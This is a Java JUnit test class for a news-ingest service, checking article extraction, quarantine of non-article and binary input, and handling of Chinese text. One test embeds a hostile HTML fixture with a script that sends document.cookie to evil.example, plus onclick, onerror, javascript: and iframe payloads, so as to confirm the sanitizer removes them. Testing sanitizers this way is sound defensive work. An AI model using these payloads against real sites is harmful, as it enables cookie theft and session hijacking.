package org.wiredesk.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.wiredesk.story.Story;

class ArticleIngestTest {

    @Test
    void aRealNewsPageBecomesAStoryWithItsHeadlineAndBody() throws IOException {
        Path page = Corpus.path("readability/pages/aktualne");
        JsonNode expected = new ObjectMapper().readTree(page.resolve("expected-metadata.json").toFile());
        try (IngestFixture fx = new IngestFixture()) {
            IngestReport report = fx.service.ingest(List.of(page.resolve("source.html").toString()), "test",
                    o -> { });
            assertThat(report.added()).as(report.outcomes().toString()).isEqualTo(1);
            Story story = fx.stories.findAll(Set.of()).get(0);
            assertThat(story.agencyHeadline().text()).isNotBlank();
            assertThat(BodyText.matches(story.body())).isTrue();
            String text = BodyText.of(story.body().html());
            List<String> expectedParagraphs = org.jsoup.Jsoup.parse(Files.readString(page.resolve("expected.html")))
                    .select("p").eachText();
            String middle = expectedParagraphs.get(expectedParagraphs.size() / 2);
            assertThat(text).contains(middle);
            assertThat(expected.get("title").asText()).isNotBlank();
        }
    }

    @Test
    void hostileScriptInAPageNeverReachesTheStore() {
        String html = """
                <html><head><title>Harbour reopens after storm</title></head><body>
                <article><h1>Harbour reopens after storm</h1>
                <p onclick="steal()">The harbour reopened on Tuesday after three days of closure, officials said,
                and the first ferries left on schedule in the early morning.</p>
                <script>document.location='https://evil.example/?c='+document.cookie</script>
                <p>Port authorities said damage to the outer breakwater would take weeks to repair, but that
                traffic could resume safely. <a href="javascript:alert(1)">More</a></p>
                <iframe src="https://evil.example/frame"></iframe>
                <p><img src="x" onerror="alert(2)">Fishermen welcomed the decision, saying the closure had cost them
                a week of catches at the height of the season.</p></article></body></html>""";
        try (IngestFixture fx = new IngestFixture()) {
            SourceOutcome outcome = fx.service.ingest(new SourceDocument("hostile.html",
                    URI.create("https://news.example/harbour"), html.getBytes(StandardCharsets.UTF_8), null), "test");
            assertThat(outcome.added()).as(outcome.line()).isEqualTo(1);
            String stored = fx.stories.findAll(Set.of()).get(0).body().html().toLowerCase();
            assertThat(stored).contains("the harbour reopened on tuesday")
                    .doesNotContain("<script", "document.cookie", "javascript:", "<iframe", "onclick", "onerror");
        }
    }

    @Test
    void aPageThatIsNotAnArticleIsQuarantinedWithItsReasonAndContent() {
        String html = "<html><head><title>Log in</title></head><body><form><input name=user></form>"
                + "<a href='/'>Home</a></body></html>";
        try (IngestFixture fx = new IngestFixture()) {
            SourceOutcome outcome = fx.service.ingest(new SourceDocument("login.html", null,
                    html.getBytes(StandardCharsets.UTF_8), null), "test");
            assertThat(outcome.rejected()).isEqualTo(1);
            assertThat(fx.quarantine.open()).singleElement().satisfies(q -> {
                assertThat(q.reason()).contains("not an article");
                assertThat(fx.quarantine.content(q.id()).orElseThrow()).isEqualTo(html.getBytes(StandardCharsets.UTF_8));
            });
        }
    }

    @Test
    void aBrokenFileIsKeptAsideNotDropped() {
        byte[] junk = {0, 1, 2, (byte) 0xFF, 'x', 'y'};
        try (IngestFixture fx = new IngestFixture()) {
            SourceOutcome outcome = fx.service.ingest(new SourceDocument("junk.bin", null, junk, null), "test");
            assertThat(outcome.rejected()).isEqualTo(1);
            assertThat(fx.quarantine.open()).singleElement()
                    .satisfies(q -> assertThat(q.reason()).contains("neither a feed nor an article page"));
        }
    }

    @Test
    void anArticleInAScriptWithoutWordSpacesIsAnArticle() {
        try (IngestFixture fx = new IngestFixture()) {
            IngestReport report = fx.service.ingest(
                    List.of(Corpus.path("readability/pages/youth/source.html").toString()), "test", o -> { });
            assertThat(report.added()).as(report.outcomes().toString()).isEqualTo(1);
            assertThat(BodyText.of(fx.stories.findAll(Set.of()).get(0).body().html())).contains("出国前后关注点大不同");
        }
    }
}
